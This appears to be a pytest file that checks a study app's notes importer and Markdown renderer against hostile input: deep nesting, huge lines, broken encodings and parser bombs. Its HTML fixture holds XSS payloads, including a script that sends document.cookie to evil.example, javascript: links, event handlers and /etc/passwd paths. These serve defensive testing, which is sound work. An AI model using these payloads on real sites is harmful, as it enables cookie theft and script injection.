"""Hostile notes files: each gives a clear error or a sanitized result, never a crash,
a hang or a network request.

Every file is generated at test time (the big ones sparse or in tmp_path, never
committed) and run in its own child process (tests/helpers/hostile_run.py) with a
60 s limit, so a hang fails its own case instead of the run; the child has the
network guard on. Several run at once.
"""

from __future__ import annotations

import base64
import codecs
import contextlib
import json
import os
import random
import re
import subprocess
import sys
from collections.abc import Callable
from concurrent.futures import Future, ThreadPoolExecutor
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote, urlsplit
from urllib.request import url2pathname

import pytest

from studyapp.core import mdguard
from studyapp.core.importer import parse_notes
from studyapp.core.render import _ALLOWED_TAGS, render_markdown
from tests.conftest import CORPORA, REPO_ROOT, SEED_MARKDOWN, require

TIMEOUT_SECONDS = 60
HELPER = REPO_ROOT / "tests" / "helpers" / "hostile_run.py"
Q = "# Hostile notes\n\n## Q1. What is in this answer?\n\n"
MB = 1024 * 1024
AFTER = "\n## Q2. And after it?\n\nStill here.\n"

# --- the files -----------------------------------------------------------------------


def random_bytes(folder: Path) -> Path:
    path = folder / "random.md"
    path.write_bytes(random.Random(7).randbytes(256 * 1024))
    return path


def empty(folder: Path) -> Path:
    path = folder / "empty.md"
    path.write_bytes(b"")
    return path


def huge_25mb(folder: Path) -> Path:
    path = folder / "huge.md"
    with path.open("wb") as f:  # sparse: 25 MB on paper, nothing on disk
        f.write(b"# Big\n")
        f.truncate(25 * MB)
    return path


def paragraph_100k_lines(folder: Path) -> Path:
    path = folder / "paragraph.md"
    path.write_text(Q + "".join(f"line {i} of one long paragraph\n" for i in range(100_000)))
    return path


def nested_list_10k_markers(folder: Path) -> Path:
    path = folder / "nested-dash.md"
    path.write_text(Q + "- " * 10_000 + "deep\n\n## Q2. And after it?\n\nStill here.\n")
    return path


def nested_ordered_10k(folder: Path) -> Path:
    path = folder / "nested-ordered.md"
    path.write_text(Q + "1. " * 10_000 + "deep\n")
    return path


def nested_quote_10k(folder: Path) -> Path:
    path = folder / "nested-quote.md"
    path.write_text(Q + "> " * 10_000 + "deep\n")
    return path


def nested_quote_lines(folder: Path) -> Path:
    """A quote one level deeper on each of 3,000 lines (a mail thread pasted in, gone
    wrong): each level read its lines through the one around it, and the import
    stopped with a RecursionError."""
    path = folder / "nested-quote-lines.md"
    deep = "".join(">" * level + " quoted\n" for level in range(1, 3_000))
    path.write_text(Q + deep + "\n## Q2. And after it?\n\nStill here.\n")
    return path


def nested_quote_held_long(folder: Path) -> Path:
    """A reply quoted 60 levels deep, held for 20,000 lines: each level of the block
    reader read each line through every level around it, so a line cost the square
    of its depth (the import took minutes)."""
    path = folder / "deep-quote-long.md"
    line = ">" * 60 + " line {} of a reply quoted again and again\n"
    path.write_text(Q + "".join(line.format(i) for i in range(20_000)) + AFTER)
    return path


def outline_with_lazy_lines(folder: Path) -> Path:
    """An outline 2,000 levels deep by tabs, its deepest point going on for 60,000
    lines: each level's item holds them all, and the lines of every item were counted
    one by one (the import took minutes)."""
    path = folder / "outline-lazy.md"
    deep = "".join("\t" * i + "- level\n" for i in range(2_000))
    lazy = "".join(f"and more of the deepest point, line {i}\n" for i in range(60_000))
    path.write_text(Q + deep + lazy + AFTER)
    return path


def nested_list_indented(folder: Path) -> Path:
    # 10,000 levels by indentation would be 200 MB; 2,000 levels is 8 MB, under the limit.
    path = folder / "nested-indent.md"
    path.write_text(Q + "".join("    " * i + "- level\n" for i in range(2_000)))
    return path


def nested_list_mixed(folder: Path) -> Path:
    path = folder / "nested-mixed.md"
    path.write_text(Q + "".join("  " * (i % 300) + "* > 1. x\n" for i in range(10_000)))
    return path


def nested_toggles_8k(folder: Path) -> Path:
    """8,000 "Show answer" toggles nested in one answer: after each, the wrappers were
    taken off the whole rest of the answer to read its first line (21 s for 5,000)."""
    path = folder / "nested-toggles.md"
    opening, closing = "<details><summary>Show answer</summary>\n\n", "\n</details>\n"
    path.write_text(Q + opening * 8_000 + "deep\n" + closing * 8_000 + AFTER)
    return path


def sibling_toggles_8k(folder: Path) -> Path:
    path = folder / "sibling-toggles.md"
    toggle = "<details><summary>Reveal</summary>\n\nAn answer.\n\n</details>\n\n"
    path.write_text(Q + "Some text first.\n\n" + toggle * 8_000 + AFTER)
    return path


def nested_html_10k(folder: Path) -> Path:
    path = folder / "nested-html.md"
    path.write_text(Q + "<div>" * 10_000 + "deep" + "</div>" * 10_000 + "\n")
    return path


def nested_html_page_one_line(folder: Path) -> Path:
    """A saved page with a line of 100,000 nested <div>s between two questions: the
    reader's pattern for the tags at a line's end, tried at each place, took an hour."""
    path = folder / "deep-page.html"
    deep = "<div>" * 100_000 + "x" + "</div>" * 100_000
    path.write_text(
        f"<html><body>\n<h2>What is in this answer?</h2>{deep}\n"
        "<h2>And after it?</h2>\n<p>Still here.</p>\n</body></html>\n"
    )
    return path


def _one_line(name: str, unit: str) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        path = folder / f"line-{name}.md"
        path.write_text(Q + unit * (MB // len(unit)) + "\n")
        return path

    build.__name__ = f"line_1mb_{name}"
    return build


def bold_code_spans_1mb(folder: Path) -> Path:
    # a bold line of code spans it never closes: each span read as a span or letter by
    # letter was 2**n tries ("**`a` `a` … x")
    path = folder / "bold-spans.md"
    path.write_text(Q + "**" + "`a` " * (MB // 4) + "x\n" + AFTER)
    return path


def title_1mb(folder: Path) -> Path:
    path = folder / "title.md"
    path.write_text("# Notes\n\n## " + "word " * (MB // 5) + "?\n\nAn answer.\n")
    return path


def _spaced(name: str, text: str, spaces: str = " ") -> Callable[[Path], Path]:
    """Notes with a line of a million spaces (or tabs) where `text` has "{}": between a
    question's mark and its words, inside a label, after an answer's label or a dash.
    Patterns over a title or a label split the run between two `\\s*` every way, or
    tried it from each of its spaces: the square of its length (or worse) in steps,
    days for a million; read a run at a time, a second or two."""

    def build(folder: Path) -> Path:
        path = folder / name
        path.write_text(text.replace("{}", spaces * MB))
        return path

    build.__name__ = "spaces_" + name.replace(".", "_").replace("-", "_")
    return build


_ASKED_AFTER = "\n\nQ: And after it?\nA: Still here.\n"
SPACED_LINES = [
    _spaced("after-q-mark.txt", "Q:{}What is in this answer?\nA: This." + _ASKED_AFTER),
    _spaced("after-q-mark-tabs.txt", "Q:{}What is in this answer?\nA: This." + _ASKED_AFTER, "\t"),
    _spaced(
        "in-a-label.txt", "Question{}: what is in this answer?\nAnswer{}: this." + _ASKED_AFTER
    ),
    _spaced("after-answer.md", Q + "Answer{}this\n" + AFTER),
    _spaced("after-a-dash.md", Q + "-{}this\n" + AFTER),
]


def nul_bytes(folder: Path) -> Path:
    path = folder / "nul.md"
    path.write_bytes((Q + "text\x00with NUL bytes\n").encode() * 50)
    return path


def utf16_with_nul_chars(folder: Path) -> Path:
    path = folder / "utf16-nul.md"
    text = Q + "An answer with a NUL \x00 character inside.\n" + "More text. " * 500
    path.write_bytes(codecs.BOM_UTF16_LE + text.encode("utf-16-le"))
    return path


def mixed_encodings(folder: Path) -> Path:
    path = folder / "mixed.md"
    path.write_bytes(
        Q.encode()
        + "UTF-8: café, naïve, 😀\n".encode()
        + b"cp1252: caf\xe9 \x93quoted\x94 \x80 price\n"
        + b"latin-1: \xfc\xe4\xf6\n"
        + codecs.BOM_UTF8
        + "mojibake: cafÃ© â€” done\n".encode()
        + b"\xff\xfe\xfd lone bytes\n"
        + b"\n## Q2. Still parsed?\n\nYes.\n"
    )
    return path


def utf16_fragment(folder: Path) -> Path:
    path = folder / "utf16-fragment.md"
    path.write_bytes(Q.encode() + "wide".encode("utf-16-le") + b"\nnarrow again\n")
    return path


HOSTILE_HTML = """# Hostile notes

## Q1. What does this page do?

<script>fetch('http://evil.example/steal?'+document.cookie)</script>
<iframe src="http://evil.example/"></iframe>
<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/x.swf">
<applet code="Evil.class"></applet><frameset><frame src="http://evil.example/"></frameset>
<style>body { background: url(http://evil.example/track.png) }</style>
<link rel="stylesheet" href="http://evil.example/x.css">
<meta http-equiv="refresh" content="0;url=http://evil.example/">
<base href="http://evil.example/">
<form action="http://evil.example/"><input name="q"><button>go</button><textarea>t</textarea>
<select><option>o</option></select></form>
<svg onload="alert(1)"><circle r="5"/></svg>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<template><img src="http://evil.example/t.png"></template>
<noscript><img src="http://evil.example/n.png"></noscript>
<video src="http://evil.example/v.mp4"></video><audio src="http://evil.example/a.mp3"></audio>
<img src="x" onerror="alert(1)">
<img src="http://evil.example/pixel.png" srcset="http://evil.example/2x.png 2x">
<img src="file:///etc/passwd">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<div onclick="alert(1)" onmouseover="alert(2)">click</div>
<p style="background: url(javascript:alert(1)); color: red">styled</p>
<span style="width: expression(alert(1))">old IE</span>
<a href="javascript:alert(1)">js</a> <a href="JaVaScRiPt:alert(1)">mixed case</a>
<a href="java&#x09;script:alert(1)">entity tab</a> <a href=" javascript:alert(1)">space</a>
<a href="data:text/html,<script>alert(1)</script>">data</a>
<a href="vbscript:msgbox(1)">vb</a> <a href="file:///etc/passwd">file</a>
<a href="https://example.com/" target="_blank" rel="opener">fine link</a>

[md js](javascript:alert(1)) [md data](data:text/html,x) ![md img js](javascript:alert(1))
<javascript:alert(1)> <https://example.com/autolink>

## Q2. And the images?

![passwd](/etc/passwd) ![abs](file:///etc/passwd) ![up](../secret.png)
![up2](../../secret.png) ![enc](%2e%2e/secret.png) ![win](..\\\\secret.png)
![link](inside-link.png) ![remote](http://evil.example/x.png) ![proto](//evil.example/x.png)
![ok](img/ok.png)
"""


def hostile_html(folder: Path) -> Path:
    notes = folder / "notes"
    (notes / "img").mkdir(parents=True)
    (notes / "img" / "ok.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    (folder / "secret.png").write_bytes(b"\x89PNG\r\n\x1a\n")  # exists, but outside
    # No symlinks on Windows without the right: one check fewer there.
    with contextlib.suppress(OSError):
        (notes / "inside-link.png").symlink_to(folder / "secret.png")
    path = notes / "hostile.md"
    path.write_text(HOSTILE_HTML)
    return path


# (builder, expected: "error" | "ok" | "any", text the error must mention)
def yaml_alias_bomb(folder: Path) -> Path:
    """Anchors of anchors ("billion laughs"): 9 ** 8 values from a 1 KB file."""
    path = folder / "cards.yaml"
    lines = ["a: &a [" + ", ".join(['"lol"'] * 9) + "]"]
    for prev, name in zip("abcdefg", "bcdefgh", strict=True):
        lines.append(f"{name}: &{name} [" + ", ".join([f"*{prev}"] * 9) + "]")
    lines += ["cards:", "  - question: What is a bomb?", "    answer: *h"]
    path.write_text("\n".join(lines) + "\n")
    return path


def json_nested_past_the_stack(folder: Path) -> Path:
    path = folder / "deep.json"
    path.write_text("[" * 200_000 + "]" * 200_000)
    return path


def jsonl_nested_past_the_stack(folder: Path) -> Path:
    path = folder / "deep.jsonl"
    path.write_text('{"question": "Q?", "answer": "A."}\n' + "[" * 200_000 + "]" * 200_000)
    return path


CASES: list[tuple[Callable[[Path], Path], str, str]] = [
    (random_bytes, "any", ""),
    (empty, "error", "empty"),
    (huge_25mb, "error", "too large"),
    (paragraph_100k_lines, "ok", ""),
    (nested_list_10k_markers, "ok", ""),
    (nested_ordered_10k, "ok", ""),
    (nested_quote_10k, "ok", ""),
    (nested_quote_lines, "ok", ""),
    (nested_quote_held_long, "ok", ""),
    (nested_list_indented, "ok", ""),
    (outline_with_lazy_lines, "ok", ""),
    (nested_list_mixed, "ok", ""),
    (nested_html_10k, "ok", ""),
    (nested_toggles_8k, "ok", ""),
    (sibling_toggles_8k, "ok", ""),
    (nested_html_page_one_line, "ok", ""),
    (_one_line("words", "word "), "ok", ""),
    (_one_line("links", "[a]("), "ok", ""),
    (_one_line("images", "![a]("), "ok", ""),
    (_one_line("angles", "<a "), "ok", ""),
    (_one_line("backticks", "`a "), "ok", ""),
    (_one_line("emphasis", "*a_ "), "ok", ""),
    (_one_line("brackets", "["), "ok", ""),
    (_one_line("entities", "&amp;"), "ok", ""),
    (title_1mb, "ok", ""),
    *((builder, "ok", "") for builder in SPACED_LINES),
    (bold_code_spans_1mb, "ok", ""),
    (nul_bytes, "ok", ""),  # damage, not binary: the NULs left out
    (utf16_with_nul_chars, "any", ""),
    (mixed_encodings, "ok", ""),
    (utf16_fragment, "any", ""),
    (hostile_html, "ok", ""),
    (yaml_alias_bomb, "ok", ""),  # read as the lines it is, aliases unexpanded
    (json_nested_past_the_stack, "error", "nested too deep to read"),
    (jsonl_nested_past_the_stack, "error", "line 2 of this JSON is nested too deep"),
]
IDS = [case[0].__name__ for case in CASES]


@pytest.fixture(scope="module")
def outcomes(tmp_path_factory) -> dict[str, tuple[Path, Future]]:
    """Build every file and start every child at once (as many at a time as CPUs, shared
    with the suite's other workers under pytest -n)."""
    root = tmp_path_factory.mktemp("hostile")
    workers = int(os.environ.get("PYTEST_XDIST_WORKER_COUNT", "1"))
    with ThreadPoolExecutor(max_workers=max(2, (os.cpu_count() or 2) // workers)) as pool:
        started = {}
        for builder, _, _ in CASES:
            folder = root / builder.__name__
            folder.mkdir()
            notes = builder(folder)
            started[builder.__name__] = (notes, pool.submit(_run_child, notes, folder / "out.json"))
        yield started


def _run_child(notes: Path, out: Path) -> tuple[subprocess.CompletedProcess | None, dict]:
    try:
        proc = subprocess.run(
            [sys.executable, str(HELPER), str(notes), str(out)],
            capture_output=True,
            text=True,
            timeout=TIMEOUT_SECONDS,
            cwd=REPO_ROOT,
            env={**os.environ, "PYTHONPATH": str(REPO_ROOT)},
        )
    except subprocess.TimeoutExpired:
        return None, {}
    data = json.loads(out.read_text(encoding="utf-8")) if out.exists() else {}
    return proc, data


# --- what a sanitized result is ----------------------------------------------------------


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, attrs))

    handle_startendtag = handle_starttag


FORMULA_PREFIX = "data:image/svg+xml;base64,"


def assert_sanitized(html_text: str, base_dir: Path) -> None:
    """Only allowed tags; no event handlers; links only http(s)/mailto/#; images only
    files inside `base_dir`; styles without url() or expression()."""
    parser = _Tags()
    parser.feed(html_text)
    parser.close()
    base = base_dir.resolve()
    for tag, attrs in parser.found:
        assert tag in _ALLOWED_TAGS, tag
        for name, value in attrs:
            value = value or ""
            assert not name.startswith("on"), (tag, name)
            assert name not in ("srcset", "action", "formaction", "xlink:href"), (tag, name)
            if name == "href":
                assert value.startswith(("http://", "https://", "mailto:", "#")), value
            if name == "src" and value.startswith(FORMULA_PREFIX):
                # a formula the app drew itself (core.texmath), put in after nh3: an
                # SVG of glyph paths that references nothing outside it
                svg = base64.b64decode(value[len(FORMULA_PREFIX) :]).decode("utf-8")
                assert tag == "img" and "<path" in svg, svg[:200]
                for banned in ("<image", "<script", "href=", "url(", "<foreignObject"):
                    assert banned not in svg, (banned, svg[:200])
                continue
            if name == "src":
                assert tag == "img", tag
                parts = urlsplit(value)
                assert parts.scheme == "file" and not parts.netloc, value
                target = Path(url2pathname(unquote(parts.path))).resolve()
                assert target.is_relative_to(base), value
            if name == "style":
                assert "url(" not in value and "expression" not in value, value


# --- the cases ---------------------------------------------------------------------------


@pytest.mark.parametrize(("builder", "expected", "mention"), CASES, ids=IDS)
def test_a_hostile_file_gives_a_clear_error_or_a_sanitized_result(
    outcomes, builder, expected, mention
):
    notes, future = outcomes[builder.__name__]
    proc, data = future.result()
    assert proc is not None, f"{builder.__name__} did not finish in {TIMEOUT_SECONDS} s"
    assert proc.returncode == 0, f"crash:\n{proc.stderr[-3000:]}"
    parse, imported = data["parse"], data["import"]
    if "error" in parse:
        assert expected in ("error", "any"), parse
        for outcome in (parse, imported):
            assert outcome["error"] in ("NotesFileError", "StudyAppError")
            assert "\n" not in outcome["message"]
            assert notes.name in outcome["message"]
            assert mention in outcome["message"]
        return
    if expected == "none":  # data, not notes: nothing found, and the import says why
        assert parse["questions"] == 0, parse
        # (the importer's StudyAppError for notes without questions)
        assert imported["error"] == "NoQuestionsError" and mention in imported["message"]
        return
    assert expected in ("ok", "any"), f"expected an error, got {parse['questions']} questions"
    assert parse["questions"] >= 1
    assert imported.get("stored", 0) >= 1, imported
    for title in parse["titles"]:
        assert title.strip() and title == title.strip()
    lines = data["lines"]
    assert all(1 <= line <= lines for line in parse["source_lines"])
    for html_text in [*data["html"], *data["stored_html"], data["whole_html"]]:
        assert_sanitized(html_text, notes.parent)


def test_the_hostile_page_keeps_its_text_and_its_one_good_image(outcomes):
    notes, future = outcomes["hostile_html"]
    _, data = future.result()
    html_text = "\n".join(data["html"])
    assert "fine link" in html_text and 'href="https://example.com/"' in html_text
    assert (notes.parent / "img" / "ok.png").resolve().as_uri() in html_text
    assert html_text.count("<img") == 1  # every other image became its alt text
    for gone in ("<script", "<iframe", "<object", "<embed", "<style", "<form", "<svg"):
        assert gone not in html_text


@pytest.mark.parametrize(
    "name",
    ["nested_list_10k_markers", "nested_ordered_10k", "nested_quote_10k", "line_1mb_links"],
)
def test_pathological_markdown_is_shown_as_plain_text(outcomes, name):
    _, future = outcomes[name]
    _, data = future.result()
    assert "Shown as plain text" in data["html"][0]


def test_mixed_encodings_come_out_as_text(outcomes):
    _, future = outcomes["mixed_encodings"]
    _, data = future.result()
    assert data["parse"]["titles"] == ["What is in this answer?", "Still parsed?"]
    answer = data["html"][0]
    for text in ("café, naïve, 😀", "“quoted”", "€ price", "üäö"):
        assert text in answer


def test_the_question_after_10000_nested_lists_is_still_found(outcomes):
    _, future = outcomes["nested_list_10k_markers"]
    _, data = future.result()
    assert data["parse"]["titles"] == ["What is in this answer?", "And after it?"]


def test_the_question_after_a_page_of_100000_nested_divs_is_still_found(outcomes):
    _, future = outcomes["nested_html_page_one_line"]
    _, data = future.result()
    assert data["parse"]["titles"] == ["What is in this answer?", "And after it?"]


@pytest.mark.parametrize(
    "name",
    [
        "nested_quote_lines",
        "nested_quote_held_long",
        "outline_with_lazy_lines",
        "nested_toggles_8k",
        "sibling_toggles_8k",
    ],
)
def test_the_question_after_deep_quotes_or_lists_is_still_found(outcomes, name):
    _, future = outcomes[name]
    _, data = future.result()
    assert data["parse"]["titles"] == ["What is in this answer?", "And after it?"]


# --- the guard against pathological Markdown, directly -------------------------------------


@pytest.mark.parametrize(
    ("md", "reason"),
    [
        ("x" * (mdguard.MAX_MARKDOWN_CHARS + 1), "longer than"),
        ("- " * (mdguard.MAX_NESTING + 1) + "x", "nests"),
        ("".join("    " * i + "- x\n" for i in range(mdguard.MAX_NESTING + 2)), "nests"),
        ("[a](" * 2_000, "costly"),
        ("<a " * 4_000, "costly"),
        ("# h\n" * 4_000, "costly"),
        ("```x\n" * 2_000, "costly"),
        ("a\n\n" * 32_000, "costly"),
    ],
    ids=["size", "markers", "indent", "links", "angles", "headings", "fences", "blocks"],
)
def test_mdguard_names_the_reason(md, reason):
    assert reason in mdguard.check(md)


@pytest.mark.parametrize(
    "md",
    [
        "- " * mdguard.MAX_NESTING + "x",
        "".join("    " * i + "- x\n" for i in range(mdguard.MAX_NESTING)),
        "```html\n" + "<div><a href='x'>[y]</a></div>\n" * 1_500 + "```\n",  # code is free
        "| a | [b](c) |\n|---|---|\n" + "| [x](y) | <b>z</b> |\n" * 500,
        "\n\n".join(
            f"Paragraph {i} with [a link](https://x.org/{i}) and `code`." for i in range(500)
        ),
    ],
    ids=["deepest-allowed", "deepest-indent", "big-code-fence", "table", "many-paragraphs"],
)
def test_mdguard_lets_ordinary_markdown_through(md):
    assert mdguard.check(md) is None
    assert "Shown as plain text" not in render_markdown(md)


def test_plain_text_fallback_is_escaped_and_capped():
    md = "<script>alert(1)</script>\n\n" + "x" * (mdguard.MAX_PLAIN_CHARS + 10)
    out = render_markdown(md)
    assert "<script" not in out and "&lt;script&gt;" in out
    assert f"({len(md) - mdguard.MAX_PLAIN_CHARS:,} more characters not shown.)" in out


def test_a_code_block_too_costly_to_format_is_still_code():
    """A new user's answer held a 3,000-line listing: shown as plain text (its Markdown
    too costly to format), the code ran in the body font with its indentation lost.
    The fallback keeps a fenced block as code (<pre>), without its fences; the prose
    around it stays paragraphs, and nothing in it is markup."""
    listing = "\n".join(f"    x{n} = <b>{n}</b>  # keep my indent" for n in range(3))
    md = f"Before the code.\n\n```python\n{listing}\n```\n\nAfter it."
    out = mdguard.plain_html(md, "its Markdown is too costly to format")
    assert "<p>Before the code.</p>" in out and "<p>After it.</p>" in out
    pre = re.search(r"<pre>(.*?)</pre>", out, re.S)
    assert pre is not None and "```" not in out
    assert pre.group(1).split("\n")[0] == "    x0 = &lt;b&gt;0&lt;/b&gt;  # keep my indent"
    # A second shape: a ~~~ fence, two blocks, and an unclosed fence left as text.
    md = "~~~\na\n~~~\ntext\n```\nb\n```\n```sql\nnever closed"
    out = mdguard.plain_html(md, "r")
    assert re.findall(r"<pre>(.*?)</pre>", out, re.S) == ["a", "b"]
    assert "never closed" in out and "```sql" in out


def test_real_notes_never_trip_the_guard():
    files = [REPO_ROOT / "resources" / "decks" / "ai-ml-questions.md"]
    if CORPORA.exists():
        files += sorted(CORPORA.glob("*.md"))
    if SEED_MARKDOWN.exists():
        files.append(require(SEED_MARKDOWN))
    answers = [q.answer_markdown for path in files for q in parse_notes(path).questions]
    assert len(answers) > 30
    assert [md[:60] for md in answers if mdguard.check(md)] == []
